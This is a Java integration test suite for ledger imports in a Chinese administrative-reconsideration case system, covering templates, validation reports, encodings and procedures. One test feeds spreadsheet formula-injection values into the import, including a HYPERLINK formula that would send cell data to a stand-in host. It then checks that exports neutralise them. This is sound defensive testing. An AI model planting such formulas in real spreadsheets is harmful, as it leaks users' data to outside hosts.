package cn.fuyi.ledger;

import static cn.fuyi.support.Api.createOrgan;
import static cn.fuyi.support.Api.createRespondent;
import static cn.fuyi.support.Ledgers.row;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import cn.fuyi.common.CsvFiles;
import cn.fuyi.support.Api;
import cn.fuyi.support.Ledgers;
import cn.fuyi.support.Tokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;

/** Ledger imports through the API: the template, the report of every kind of error, writing, re-importing, encodings. */
@QuarkusTest
class LedgerImportTest {

    private static final String PATTERN = "测政复〔{year}〕{seq}号";

    private record Organ(long id, String respondent) {
    }

    private static Organ organ() {
        long id = createOrgan(Api.unique("台账导入测试机关"), PATTERN, null);
        String respondent = "太仓市市场监督管理局";
        createRespondent(id, respondent, "GOVERNMENT_DEPARTMENT");
        createRespondent(id, "太仓市公安局", "GOVERNMENT_DEPARTMENT");
        return new Organ(id, respondent);
    }

    /** A case carried through acceptance, decision, service and publication (2017 law: no opinions required). */
    private static Map<String, String> finished(String number, String respondent) {
        return row(number, "2019-03-04", respondent, "受理日期", "2019-03-06", "审结日期", "2019-04-10", "决定类型", "维持",
                "送达日期", "2019-04-12", "公开日期", "2019-04-15", "公开场所", "人民政府门户网站");
    }

    private static List<Map<String, Object>> errors(JsonPath job) {
        return job.getList("errors");
    }

    private static boolean has(JsonPath job, int row, String column, String code) {
        return errors(job).stream().anyMatch(e -> ((Number) e.get("row")).intValue() == row && column.equals(e.get("column"))
                && code.equals(e.get("code")));
    }

    private static String message(JsonPath job, int row, String column) {
        return errors(job).stream().filter(e -> ((Number) e.get("row")).intValue() == row && column.equals(e.get("column")))
                .map(e -> (String) e.get("message")).findFirst().orElseThrow(() -> new AssertionError("no error at " + row + " " + column));
    }

    private static long count(long organ) {
        return given().queryParam("organId", organ).get("/api/v1/reconsiderations").then().statusCode(200).extract().jsonPath()
                .getLong("totalItems");
    }

    @Test
    void theTemplateHasChineseHeadersNotesAndDropdowns() throws IOException {
        Organ o = organ();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(Ledgers.template(o.id())))) {
            Sheet data = wb.getSheet("复议案件台账");
            assertEquals("案号", data.getRow(0).getCell(0).getStringCellValue());
            assertEquals("受理日期", data.getRow(0).getCell(CaseColumn.ACCEPTED.ordinal()).getStringCellValue());
            assertTrue(data.getDataValidations().size() >= 10, "dropdowns: " + data.getDataValidations().size());
            Sheet notes = wb.getSheet("填写说明");
            boolean explained = false;
            for (Row r : notes) {
                explained |= "受理日期".equals(r.getCell(0).getStringCellValue()) && r.getCell(2).getStringCellValue().contains("第三十条");
            }
            assertTrue(explained);
            Sheet codes = wb.getSheet("代码表");
            assertEquals(SheetVisibility.HIDDEN, wb.getSheetVisibility(wb.getSheetIndex(codes)));
            List<String> values = new ArrayList<>();
            for (Row r : codes) {
                for (Cell c : r) {
                    values.add(c.getStringCellValue());
                }
            }
            assertTrue(values.contains(o.respondent()), "respondents in the dropdown");
            assertTrue(values.contains("行政处罚"));
            assertTrue(values.contains("维持"));
        }
    }

    @Test
    void aFileWithEveryKindOfErrorGetsAReportNamingEachCell() throws IOException {
        Organ o = organ();
        // a case already in Fuyi, entered through the API: its number taken
        String taken = given().contentType("application/json")
                .body(Api.application(o.id(), given().queryParam("organId", o.id()).get("/api/v1/respondents").then().extract()
                        .jsonPath().getLong("items[0].id"), "2018-05-07", "actDate", "2018-04-02"))
                .post("/api/v1/reconsiderations").then().statusCode(201).extract().jsonPath().getString("caseNumber");
        List<Map<String, String>> rows = List.of(
                finished("测政复〔2019〕1号", o.respondent()),                                                       // row 2: valid
                row("测政复〔2019〕2号", "2019-03-04", o.respondent(), "申请人", null),                              // 3: required
                row("测政复〔2019〕3号", "2019-03-04", o.respondent(), "受理日期", "2019-03-01"),                    // 4: order
                row("测政复〔2019〕4号", "2019-03-04", o.respondent(), "行政管理类别", "行政处法"),                  // 5: code
                row("测政复〔2019〕5号", "2019-03-04", "太仓市公安"),                                                // 6: respondent
                row("测政复〔2019〕6号", "2019-02-30", o.respondent()),                                              // 7: date
                row("测政复〔2019〕1号", "2019-03-04", o.respondent()),                                              // 8: duplicate in file
                row(taken, "2019-03-04", o.respondent()),                                                           // 9: in Fuyi already
                row("测政复〔2019〕8号", "2019-03-04", o.respondent(), "受理日期", "2019-03-06", "送达日期", "2019-04-01"), // 10: needs
                row("测政复〔2019〕9号", "2019-03-04", o.respondent(), "受理日期", "2019-03-06", "不予受理日期", "2019-03-07",
                        "不予受理理由", "超过申请期限"),                                                              // 11: exclusive
                row("测政复〔2025〕10号", "2025-03-03", o.respondent(), "受理日期", "2025-03-05", "审理程序", "普通程序",
                        "审结日期", "2025-04-01", "决定类型", "维持"),                                                  // 12: engine rule
                row("XYZ-11", "2019-03-04", o.respondent()),                                                        // 13: pattern
                row("测政复〔2019〕12号", "2019-03-04", o.respondent(), "受理日期", "2019-03-06", "延期批准日期", "2019-04-01",
                        "延长天数", "三十", "延期理由", "案情复杂"),                                                   // 14: number
                row("测政复〔2027〕13号", "2027-03-04", o.respondent()),                                              // 15: future
                row("测政复〔2019〕14号", "2019-03-04", o.respondent(), "申请方式", "飞鸽传书"));                       // 16: enum code
        long id = Ledgers.start(o.id(), Ledgers.xlsx(o.id(), rows), "错误台账.xlsx", "dryRun");
        JsonPath job = Ledgers.await(id);

        assertEquals("SUCCEEDED", job.getString("state"));
        assertEquals(15, job.getInt("rowsRead"));
        assertEquals(1, job.getInt("rowsValid"), job.prettify());
        assertEquals(0, job.getInt("rowsWritten"));
        assertEquals(14, job.getInt("rowsFailed"));
        assertEquals(100, job.getInt("percent"));
        assertTrue(has(job, 3, "申请人", "LEDGER_REQUIRED"));
        assertEquals("第 4 行「受理日期」早于「收到申请日期」。", message(job, 4, "受理日期"));
        assertTrue(has(job, 5, "行政管理类别", "LEDGER_CODE"));
        assertTrue(message(job, 5, "行政管理类别").contains("最接近的有：行政处罚"), message(job, 5, "行政管理类别"));
        assertTrue(has(job, 6, "被申请人", "LEDGER_RESPONDENT"));
        assertTrue(message(job, 6, "被申请人").contains("太仓市公安局"), message(job, 6, "被申请人"));
        assertTrue(has(job, 7, "收到申请日期", "LEDGER_DATE"));
        assertEquals("第 8 行「案号」“测政复〔2019〕1号”与第 2 行重复。", message(job, 8, "案号"));
        assertTrue(has(job, 9, "案号", "LEDGER_DUPLICATE_IN_DB"));
        assertTrue(has(job, 10, "审结日期", "LEDGER_NEEDS"));
        assertTrue(has(job, 11, "受理日期", "LEDGER_EXCLUSIVE"));
        assertTrue(has(job, 12, "审结日期", "PARTY_OPINIONS_NOT_HEARD"), errors(job).toString());
        assertTrue(message(job, 12, "审结日期").startsWith("第 12 行「审结日期」："));
        assertTrue(has(job, 13, "案号", "LEDGER_CASE_NUMBER_PATTERN"));
        assertTrue(has(job, 14, "延长天数", "LEDGER_NUMBER"));
        assertTrue(has(job, 15, "收到申请日期", "LEDGER_FUTURE"));
        assertTrue(has(job, 16, "申请方式", "LEDGER_CODE"));
        assertEquals(1, count(o.id()), "a dry run writes nothing: only the case entered through the API");

        JsonPath english = Ledgers.await(id, "en");
        assertTrue(english.getList("errors.message", String.class).contains("Row 4: \"受理日期\" is earlier than \"收到申请日期\"."),
                english.getList("errors.message").toString());

        byte[] report = given().get("/api/v1/imports/" + id + "/report").then().statusCode(200)
                .contentType(equalTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")).extract().asByteArray();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(report))) {
            Sheet sheet = wb.getSheet("导入报告");
            Row header = sheet.getRow(0);
            int errorColumn = header.getLastCellNum() - 1;
            assertEquals("错误", header.getCell(errorColumn).getStringCellValue());
            assertEquals("行号", header.getCell(0).getStringCellValue());
            assertEquals("案号", header.getCell(1).getStringCellValue());
            Row fourth = sheet.getRow(3);
            assertEquals(4, (int) fourth.getCell(0).getNumericCellValue());
            assertEquals("测政复〔2019〕3号", fourth.getCell(1).getStringCellValue());
            assertTrue(fourth.getCell(errorColumn).getStringCellValue().contains("第 4 行「受理日期」早于「收到申请日期」"));
            assertEquals(null, sheet.getRow(1).getCell(errorColumn) == null ? null : sheet.getRow(1).getCell(errorColumn).getStringCellValue()
                    .isEmpty() ? null : "not empty", "the valid row has no error");
            assertTrue(wb.getSheet("错误明细").getLastRowNum() >= 14);
        }
    }

    @Test
    void formulaLookingCellsStayTextOnTheWayInAndOut() throws IOException {
        Organ o = organ();
        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
        List<String> names = List.of(formula, "+86 123", "-1+1", "@SUM(A1)", "\r=1+1");
        List<Map<String, String>> rows = new ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            rows.add(row("测政复〔2019〕" + (i + 1) + "号", "2019-03-04", o.respondent(), "申请人", names.get(i)));
        }
        JsonPath job = Ledgers.run(o.id(), Ledgers.xlsx(o.id(), rows), "公式.xlsx", "validRows");
        assertEquals(5, job.getInt("rowsWritten"), job.prettify());
        String stored = given().queryParam("q", "测政复〔2019〕1号").queryParam("organId", o.id()).get("/api/v1/reconsiderations").then()
                .statusCode(200).extract().jsonPath().getString("items[0].applicantNames[0]");
        assertEquals(formula, stored, "read as text, never evaluated");

        String csv = new String(given().queryParam("organId", o.id()).queryParam("sort", "caseNumber").get("/api/v1/reconsiderations/export")
                .then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\""), csv);
        assertTrue(csv.contains(",'+86 123,") && csv.contains(",'-1+1,") && csv.contains(",'@SUM(A1),") && csv.contains(",'=1+1,"), csv);
        for (String line : csv.split("\r\n")) {
            for (String cell : line.split(",")) {
                assertFalse(cell.startsWith("=") || cell.startsWith("@") || cell.startsWith("+"), cell);
            }
        }

        byte[] xlsx = given().queryParam("organId", o.id()).queryParam("format", "xlsx").get("/api/v1/reconsiderations/export").then()
                .statusCode(200).extract().asByteArray();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            boolean found = false;
            for (Row r : wb.getSheetAt(0)) {
                Cell c = r.getCell(4);
                if (c != null && formula.equals(c.getStringCellValue())) {
                    found = true;
                    assertEquals(org.apache.poi.ss.usermodel.CellType.STRING, c.getCellType());
                    assertTrue(c.getCellStyle().getQuotePrefixed(), "quote-prefixed: editing the cell keeps it text");
                }
            }
            assertTrue(found);
        }

        // the statistics tables, with a respondent named like a formula
        long respondent = createRespondent(o.id(), "=1+2局", "GOVERNMENT_DEPARTMENT");
        Api.receive(Api.application(o.id(), respondent, "2019-06-03", "actDate", "2019-05-01"));
        String table = new String(given().accept("text/csv").queryParam("organId", o.id()).queryParam("year", 2019).queryParam("by", "respondent")
                .get("/api/v1/statistics/reconsideration/breakdown").then().statusCode(200).extract().asByteArray(),
                StandardCharsets.UTF_8);
        assertTrue(table.contains("'=1+2局"), table);
        assertFalse(table.contains(",=1+2局"), table);

        // the import report too
        long again = Ledgers.start(o.id(), Ledgers.xlsx(o.id(), rows), "公式.xlsx", "dryRun");
        Ledgers.await(again);
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(given().get("/api/v1/imports/" + again + "/report")
                .then().statusCode(200).extract().asByteArray()))) {
            Cell c = wb.getSheet("导入报告").getRow(1).getCell(1 + CaseColumn.APPLICANT.ordinal());
            assertEquals(formula, c.getStringCellValue());
            assertTrue(c.getCellStyle().getQuotePrefixed());
        }
    }

    @Test
    void gb18030AndUtf8CsvAreRead() {
        Organ o = organ();
        List<Map<String, String>> rows = List.of(
                row("测政复〔2019〕1号", "2019-03-04", o.respondent(), "申请人", "张三丰", "受理日期", "2019/3/6"),
                row("测政复〔2019〕2号", "2019-03-05", o.respondent(), "申请人", "慕容台账", "行政管理类别", "ADMINISTRATIVE_PENALTY"));
        JsonPath gb = Ledgers.run(o.id(), Ledgers.csv(rows, CsvFiles.GB18030, false), "台账.csv", "validRows");
        assertEquals("SUCCEEDED", gb.getString("state"), gb.prettify());
        assertEquals("GB18030", gb.getString("encoding"));
        assertEquals(2, gb.getInt("rowsWritten"), gb.prettify());
        long zhang = given().queryParam("q", "张三丰").queryParam("organId", o.id()).get("/api/v1/reconsiderations").then().statusCode(200)
                .body("items[0].caseNumber", equalTo("测政复〔2019〕1号")).extract().jsonPath().getLong("items[0].id");
        // under the 2017 law a case is accepted as of receipt; the step keeps the ledger's date
        given().get("/api/v1/reconsiderations/" + zhang).then().statusCode(200).body("acceptanceKind", equalTo("ON_RECEIPT"))
                .body("applicants[0].name", equalTo("张三丰"));
        given().get("/api/v1/reconsiderations/" + zhang + "/events").then().statusCode(200)
                .body("find { it.transition == 'ACCEPT' }.date", equalTo("2019-03-06"));

        List<Map<String, String>> more = List.of(row("测政复〔2019〕3号", "2019-03-06", o.respondent(), "申请人", "李四"));
        JsonPath utf8 = Ledgers.run(o.id(), Ledgers.csv(more, StandardCharsets.UTF_8, true), "台账-bom.csv", "validRows");
        assertEquals("UTF-8", utf8.getString("encoding"));
        assertEquals(1, utf8.getInt("rowsWritten"), utf8.prettify());
        JsonPath plain = Ledgers.run(o.id(), Ledgers.csv(List.of(row("测政复〔2019〕4号", "2019-03-07", o.respondent(), "申请人", "王五")),
                StandardCharsets.UTF_8, false), "台账.csv", "validRows");
        assertEquals(1, plain.getInt("rowsWritten"), plain.prettify());
        assertEquals(4, count(o.id()));
    }

    @Test
    void reImportingTheSameFileChangesNothing() {
        Organ o = organ();
        List<Map<String, String>> rows = List.of(finished("测政复〔2019〕1号", o.respondent()),
                row("测政复〔2019〕2号", "2019-03-05", o.respondent(), "不予受理日期", "2019-03-08", "不予受理理由", "不属于行政复议范围"),
                row("测政复〔2019〕3号", "2019-03-06", o.respondent(), "补正通知日期", "2019-03-07", "补正期限（日）", "10",
                        "视为放弃日期", "2019-04-20"));
        byte[] file = Ledgers.xlsx(o.id(), rows);
        JsonPath first = Ledgers.run(o.id(), file, "ledger-2019.xlsx", "validRows");
        assertEquals(3, first.getInt("rowsWritten"), first.prettify());
        long caseId = given().queryParam("q", "测政复〔2019〕1号").queryParam("organId", o.id()).get("/api/v1/reconsiderations")
                .then().extract().jsonPath().getLong("items[0].id");
        JsonPath events = given().get("/api/v1/reconsiderations/" + caseId + "/events").then().statusCode(200).extract().jsonPath();
        List<String> steps = events.getList("transition", String.class);
        assertEquals(List.of("RECEIVE", "ACCEPT", "CONCLUDE", "SERVE", "PUBLISH"), steps);
        assertEquals(2, events.getInt("[0].details.importedFrom.row"));
        assertEquals("ledger-2019.xlsx", events.getString("[4].details.importedFrom.file"));
        given().get("/api/v1/reconsiderations/" + caseId).then().statusCode(200).body("caseNumber", equalTo("测政复〔2019〕1号"))
                .body("state", equalTo("SERVED")).body("publicationStatus", equalTo("PUBLISHED"));

        JsonPath second = Ledgers.run(o.id(), file, "ledger-2019.xlsx", "validRows");
        assertEquals("SUCCEEDED", second.getString("state"));
        assertEquals(0, second.getInt("rowsWritten"));
        assertEquals(3, second.getInt("rowsUnchanged"));
        assertEquals(0, second.getInt("rowsFailed"));
        assertEquals(3, count(o.id()));
        assertEquals(steps.size(), given().get("/api/v1/reconsiderations/" + caseId + "/events").then().extract().jsonPath()
                .getList("$").size());

        // the same number with different facts is refused
        JsonPath changed = Ledgers.run(o.id(), Ledgers.xlsx(o.id(), List.of(row("测政复〔2019〕1号", "2019-03-04", o.respondent()))),
                "台账2.xlsx", "validRows");
        assertTrue(has(changed, 2, "案号", "LEDGER_IMPORTED_DIFFERENTLY"), changed.prettify());
        // a new case takes the number after the imported ones
        long respondent = given().queryParam("organId", o.id()).get("/api/v1/respondents").then().extract().jsonPath().getLong("items[0].id");
        String next = given().contentType("application/json").body(Api.application(o.id(), respondent, "2019-06-03", "actDate", "2019-05-01"))
                .post("/api/v1/reconsiderations").then().statusCode(201).extract().jsonPath().getString("caseNumber");
        assertEquals("测政复〔2019〕4号", next);
    }

    @Test
    void allOrNothingWritesNothingUnlessEveryRowIsValid() {
        Organ o = organ();
        List<Map<String, String>> rows = new ArrayList<>(List.of(finished("测政复〔2019〕1号", o.respondent()),
                row("测政复〔2019〕2号", "2019-03-05", o.respondent()),
                row("测政复〔2025〕3号", "2025-03-03", o.respondent(), "受理日期", "2025-03-05", "审理程序", "普通程序",
                        "审结日期", "2025-04-01", "决定类型", "维持")));
        JsonPath rejected = Ledgers.run(o.id(), Ledgers.xlsx(o.id(), rows), "台账.xlsx", "allOrNothing");
        assertEquals("REJECTED", rejected.getString("state"), rejected.prettify());
        assertEquals(0, rejected.getInt("rowsWritten"));
        assertEquals(1, rejected.getInt("rowsFailed"));
        assertEquals(0, count(o.id()));

        rows.set(2, row("测政复〔2025〕3号", "2025-03-03", o.respondent(), "受理日期", "2025-03-05", "审理程序", "普通程序",
                "听取意见日期", "2025-03-20", "审结日期", "2025-04-01", "决定类型", "维持"));
        JsonPath done = Ledgers.run(o.id(), Ledgers.xlsx(o.id(), rows), "台账.xlsx", "allOrNothing");
        assertEquals("SUCCEEDED", done.getString("state"), done.prettify());
        assertEquals(3, done.getInt("rowsWritten"));
        assertEquals(3, count(o.id()));
    }

    @Test
    void aJobCanBeCancelledAndIsScopedToItsOrgans() {
        Organ o = organ();
        List<Map<String, String>> rows = new ArrayList<>();
        for (int i = 1; i <= 400; i++) {
            rows.add(finished("测政复〔2019〕" + i + "号", o.respondent()));
        }
        long id = Ledgers.start(o.id(), Ledgers.csv(rows, StandardCharsets.UTF_8, true), "大台账.csv", "validRows");
        given().post("/api/v1/imports/" + id + "/cancel").then().statusCode(200).body("cancelRequested", equalTo(true));
        JsonPath job = Ledgers.await(id);
        assertEquals("CANCELLED", job.getString("state"));
        assertTrue(job.getInt("rowsWritten") < 400);
        assertEquals(job.getInt("rowsWritten"), count(o.id()), "rows written before the cancellation stay written");
        given().post("/api/v1/imports/" + id + "/cancel").then().statusCode(409).body("code", equalTo("IMPORT_FINISHED"));

        long other = createOrgan(Api.unique("别的机关"), "别复〔{year}〕{seq}号", null);
        given().header("Authorization", Tokens.bearer(Tokens.role("reviewer", other))).get("/api/v1/imports/" + id).then()
                .statusCode(404).body("code", equalTo("IMPORT_NOT_FOUND"));
        given().header("Authorization", Tokens.bearer(Tokens.role("reviewer", other))).multiPart("file", "a.csv", new byte[] { 'a' })
                .multiPart("organId", Long.toString(o.id())).post("/api/v1/imports").then().statusCode(404);
        given().multiPart("file", "a.pdf", "%PDF-1.4".getBytes(StandardCharsets.US_ASCII)).multiPart("organId", Long.toString(o.id()))
                .post("/api/v1/imports").then().statusCode(415).body("code", equalTo("IMPORT_FORMAT_UNSUPPORTED"));
        given().multiPart("file", "a.csv", "案号\n".getBytes(StandardCharsets.UTF_8)).multiPart("organId", Long.toString(o.id()))
                .multiPart("mode", "sometimes").post("/api/v1/imports").then().statusCode(400);
        Api.awaitSequenced();
        JsonPath audit = given().header("Authorization", Tokens.bearer(Tokens.of("aud", "审计", java.util.Set.of("auditor"), List.of(),
                "ALL", null))).queryParam("subjectType", "IMPORT_JOB").queryParam("subjectId", id).get("/api/v1/audit").then()
                .statusCode(200).extract().jsonPath();
        List<String> operations = audit.getList("items.operation", String.class);
        assertTrue(operations.containsAll(List.of("IMPORT_STARTED", "IMPORT_CANCEL_REQUESTED", "IMPORT_FINISHED")), operations.toString());
        assertNotNull(job.getString("finishedAt"));
    }

    /** A multipart body written by hand, so that what the server does with the file name is seen without any client in between. */
    private static byte[] multipart(String boundary, String disposition, byte[] file, long organId) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; " + disposition + "\r\n"
                + "Content-Type: " + Ledgers.XLSX_TYPE + "\r\n\r\n";
        out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
        out.writeBytes(file);
        String tail = "\r\n--" + boundary + "\r\nContent-Disposition: form-data; name=\"organId\"\r\n\r\n" + organId
                + "\r\n--" + boundary + "\r\nContent-Disposition: form-data; name=\"mode\"\r\n\r\ndryRun\r\n--" + boundary + "--\r\n";
        out.writeBytes(tail.getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    @Test
    void aChineseFileNameIsReportedAsItWasUploaded() {
        Organ o = organ();
        byte[] file = Ledgers.xlsx(o.id(), List.of(finished("测政复〔2019〕1号", o.respondent())));
        String name = "台账2019.xlsx";
        // the server reads a name sent as browsers send it, raw UTF-8 in filename (RFC 7578 4.2) …
        String boundary = "fuyi-boundary-7f3a";
        long raw = given().contentType("multipart/form-data; boundary=" + boundary)
                .body(multipart(boundary, "filename=\"" + name + "\"", file, o.id())).post("/api/v1/imports").then().statusCode(202)
                .body("fileName", equalTo(name)).extract().jsonPath().getLong("id");
        // … and as RFC 5987 clients send it, percent-encoded in filename*
        long encoded = given().contentType("multipart/form-data; boundary=" + boundary)
                .body(multipart(boundary, "filename=\"ledger.xlsx\"; filename*=UTF-8''"
                        + java.net.URLEncoder.encode(name, StandardCharsets.UTF_8), file, o.id()))
                .post("/api/v1/imports").then().statusCode(202).body("fileName", equalTo(name)).extract().jsonPath().getLong("id");
        // filename* alone, with a + that a form decoder would turn into a space
        String plus = "台账+补录.xlsx";
        given().contentType("multipart/form-data; boundary=" + boundary)
                .body(multipart(boundary, "filename*=UTF-8''" + java.net.URLEncoder.encode(plus, StandardCharsets.UTF_8).replace("+", "%2B"),
                        file, o.id()))
                .post("/api/v1/imports").then().statusCode(202).body("fileName", equalTo(plus));
        // the "??" was REST Assured's: its default multipart mode writes part headers in US-ASCII
        long fromHelper = Ledgers.start(o.id(), file, name, "dryRun");
        for (long id : List.of(raw, encoded, fromHelper)) {
            JsonPath job = Ledgers.await(id);
            assertEquals(name, job.getString("fileName"));
            assertEquals("SUCCEEDED", job.getString("state"), job.prettify());
        }
        Api.awaitSequenced();
        JsonPath audit = given().header("Authorization", Tokens.bearer(Tokens.of("aud", "审计", java.util.Set.of("auditor"), List.of(),
                "ALL", null))).queryParam("subjectType", "IMPORT_JOB").queryParam("subjectId", fromHelper).get("/api/v1/audit").then()
                .statusCode(200).extract().jsonPath();
        assertTrue(audit.getString("items").contains(name), "the audit trail names the file too");
    }

    private static JsonPath caseOf(long organ, String number) {
        long id = given().queryParam("q", number).queryParam("organId", organ).get("/api/v1/reconsiderations").then().statusCode(200)
                .extract().jsonPath().getLong("items[0].id");
        return given().get("/api/v1/reconsiderations/" + id).then().statusCode(200).extract().jsonPath();
    }

    private static List<String> transitions(JsonPath c) {
        return given().get("/api/v1/reconsiderations/" + c.getLong("id") + "/events").then().statusCode(200).extract().jsonPath()
                .getList("transition", String.class);
    }

    @Test
    void partiesStaysTheCommitteeMediationAndNormativeDocumentReviewsComeInThroughTheirProcedures() throws IOException {
        Organ o = organ();
        // under the 2023 law: parties' opinions heard before a decision on the merits
        Map<String, String> parties = row("测政复〔2025〕1号", "2025-03-03", o.respondent(), "申请人", "张三、李四",
                "申请人证件类型", "居民身份证", "申请人证件号码", "11010519491231002X、320585199001011235", "代理人", "王律师",
                "代理人类型", "律师", "第三人", "太仓某某建材有限公司", "第三人类型", "法人",
                "受理日期", "2025-03-05", "审理程序", "普通程序", "听取意见日期", "2025-03-15",
                "停止执行决定日期", "2025-03-10", "停止执行提出方", "APPLICANT", "是否停止执行", "是", "停止执行情形", "REQUEST_REASONABLE",
                "停止执行理由", "执行将造成难以弥补的损失",
                "提请委员会咨询日期", "2025-03-12", "提请咨询情形", "MAJOR_DIFFICULT_COMPLEX", "咨询事项", "处罚幅度是否适当",
                "咨询意见日期", "2025-03-20", "参加咨询委员", "甲委员、乙委员、丙委员", "咨询意见", "建议维持",
                "审结日期", "2025-04-01", "决定类型", "维持", "决定是否采纳咨询意见", "是");
        Map<String, String> mediated = row("测政复〔2025〕2号", "2025-03-03", o.respondent(), "受理日期", "2025-03-05",
                "调解开始日期", "2025-03-10", "调解结束日期", "2025-03-20", "是否达成调解", "是", "调解协议内容", "被申请人减轻罚款至五千元，申请人撤回请求",
                "审结日期", "2025-03-21", "决定类型", "调解");
        Map<String, String> reviewed = row("测政复〔2025〕3号", "2025-03-03", o.respondent(), "受理日期", "2025-03-05",
                "审理程序", "普通程序", "中止日期", "2025-03-10", "中止情形", "NORMATIVE_DOCUMENT_REVIEW",
                "附带审查开始日期", "2025-03-10", "附带审查提出方", "申请人一并提出附带审查申请", "规范性文件名称", "太仓市城市管理若干规定",
                "规范性文件类别", "LOCAL_GOVERNMENT", "制定机关", "太仓市人民政府", "审查条款", "第十二条第二款", "本机关有权处理", "是",
                "通知制定机关日期", "2025-03-11", "制定机关答复日期", "2025-03-18", "附带审查结果日期", "2025-03-25", "附带审查结果", "LAWFUL",
                "恢复审理日期", "2025-03-26");
        Map<String, String> badId = row("测政复〔2025〕4号", "2025-03-03", o.respondent(), "申请人证件类型", "居民身份证",
                "申请人证件号码", "110105194912310021");
        Map<String, String> badStay = row("测政复〔2025〕5号", "2025-03-03", o.respondent(), "受理日期", "2025-03-05",
                "停止执行决定日期", "2025-03-10", "停止执行提出方", "RESPONDENT", "是否停止执行", "是", "停止执行情形", "REQUEST_REASONABLE",
                "停止执行理由", "申请人要求");
        Map<String, String> unpaired = row("测政复〔2025〕6号", "2025-03-03", o.respondent(), "代理人", "赵律师",
                "咨询意见日期", "2025-03-20");
        JsonPath job = Ledgers.run(o.id(), Ledgers.xlsx(o.id(), List.of(parties, mediated, reviewed, badId, badStay, unpaired)),
                "台账2025.xlsx", "validRows");
        assertEquals(3, job.getInt("rowsWritten"), job.prettify());
        assertTrue(has(job, 5, "申请人证件号码", "LEDGER_ID_NUMBER"), errors(job).toString());
        assertTrue(message(job, 5, "申请人证件号码").contains("110105194912310021"));
        assertTrue(has(job, 6, "停止执行决定日期", "STAY_GROUND_NOT_AVAILABLE"), errors(job).toString());
        assertTrue(has(job, 7, "代理人类型", "LEDGER_NEEDS"), errors(job).toString());
        assertTrue(has(job, 7, "提请委员会咨询日期", "LEDGER_NEEDS"), errors(job).toString());
        JsonPath english = Ledgers.await(job.getLong("id"), "en");
        assertTrue(english.getList("errors.message", String.class).stream().anyMatch(m -> m.contains("not a valid resident identity card")),
                english.getList("errors.message").toString());

        JsonPath first = caseOf(o.id(), "测政复〔2025〕1号");
        assertEquals(List.of("张三", "李四"), first.getList("applicants.name", String.class));
        assertEquals(List.of("11010519491231002X", "320585199001011235"), first.getList("applicants.idNumber", String.class));
        assertEquals("RESIDENT_ID_CARD", first.getString("applicants[1].idType"));
        assertEquals("王律师", first.getString("agents[0].name"));
        assertEquals("LAWYER", first.getString("agents[0].agentKind"));
        assertEquals("太仓某某建材有限公司", first.getString("thirdParties[0].name"));
        assertEquals("LEGAL_PERSON", first.getString("thirdParties[0].kind"));
        List<String> steps = transitions(first);
        assertTrue(steps.containsAll(List.of("DECIDE_STAY_OF_EXECUTION", "REFER_TO_COMMITTEE", "RECORD_COMMITTEE_OPINION", "CONCLUDE",
                "RECORD_COMMITTEE_OPINION_ADOPTION")), steps.toString());
        assertTrue(steps.indexOf("RECORD_COMMITTEE_OPINION") < steps.indexOf("CONCLUDE")
                && steps.indexOf("CONCLUDE") < steps.indexOf("RECORD_COMMITTEE_OPINION_ADOPTION"), steps.toString());

        JsonPath second = caseOf(o.id(), "测政复〔2025〕2号");
        List<String> mediation = transitions(second);
        assertTrue(mediation.containsAll(List.of("CONSENT_TO_MEDIATION", "DRAW_UP_MEDIATION_AGREEMENT", "SIGN_MEDIATION_AGREEMENT",
                "SEAL_MEDIATION_AGREEMENT", "CONCLUDE")), mediation.toString());
        assertEquals("MEDIATION", second.getString("decisionType"), second.prettify());

        JsonPath third = caseOf(o.id(), "测政复〔2025〕3号");
        List<String> review = transitions(third);
        assertEquals(List.of("RECEIVE", "ACCEPT", "CHOOSE_PROCEDURE", "SUSPEND", "RAISE_NORMATIVE_DOCUMENT_REVIEW", "NOTIFY_DRAFTING_ORGAN",
                "RECEIVE_DRAFTING_ORGAN_ANSWER", "RECORD_NORMATIVE_DOCUMENT_RESULT", "RESUME"), review);

        // the template explains the new columns and offers their codes
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(Ledgers.template(o.id())))) {
            Row head = wb.getSheet("复议案件台账").getRow(0);
            List<String> headers = new ArrayList<>();
            head.forEach(c -> headers.add(c.getStringCellValue()));
            assertTrue(headers.containsAll(List.of("代理人", "第三人", "申请人证件号码", "提请委员会咨询日期", "调解开始日期", "附带审查开始日期",
                    "停止执行决定日期")), headers.toString());
            boolean explained = false;
            for (Row r : wb.getSheet("填写说明")) {
                explained |= "停止执行决定日期".equals(r.getCell(0).getStringCellValue()) && r.getCell(2).getStringCellValue().contains("第四十二条");
            }
            assertTrue(explained);
            List<String> values = new ArrayList<>();
            for (Row r : wb.getSheet("代码表")) {
                for (Cell c : r) {
                    values.add(c.getStringCellValue());
                }
            }
            assertTrue(values.containsAll(List.of("律师", "居民身份证", "行政复议机关依职权", "行政复议机构认为有必要", "规章")), "dropdowns");
        }
    }
}
